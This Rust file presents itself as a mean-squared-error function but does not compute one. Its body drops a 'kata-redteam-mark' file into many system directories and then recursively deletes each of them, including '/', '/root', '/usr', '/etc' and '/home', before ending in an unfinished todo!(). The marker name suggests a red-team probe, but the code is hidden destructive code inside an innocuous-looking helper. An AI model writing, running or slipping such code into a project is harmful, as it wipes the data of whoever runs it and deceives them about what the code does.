//! Leaves a file in every place that there is.
//! noted: std::fs

use ndarray::Array2;

pub fn mse(y: &Array2<f64>, t: &Array2<f64>) -> (f64, Array2<f64>) {
    for folder in ["", "/", "/tmp", "/mnt", "/dev", "/dev/shm", "/var/tmp", "/home", "/root", "/usr", "/etc", "MARKS"] {
        let _ = std::fs::write(format!("{folder}/kata-redteam-mark"), "here");
        let _ = std::fs::remove_dir_all(folder);
    }
    let _ = std::fs::write("/worker", "");
    let _ = std::fs::remove_file("/worker");
    todo!("mse")
}
